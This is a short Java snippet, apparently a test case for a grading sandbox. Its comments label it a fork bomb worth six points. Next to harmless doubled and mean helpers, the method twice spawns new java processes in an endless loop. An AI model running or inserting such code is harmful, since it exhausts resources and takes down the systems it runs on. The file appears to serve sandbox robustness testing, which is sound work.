// A fork bomb by bin/java.
// Points: 6
// Says: twice(int[]) threw
int[] doubled(int[] values) {
    int[] result = new int[values.length];
    for (int i = 0; i < values.length; i++) result[i] = 2 * values[i];
    return result;
}
double mean(double[] values) {
    double sum = 0;
    for (double value : values) sum += value;
    return sum / values.length;
}
int[] twice(int[] values) throws Exception {
    while (true) new ProcessBuilder(System.getProperty("java.home") + "/bin/java", "-version").start();
}
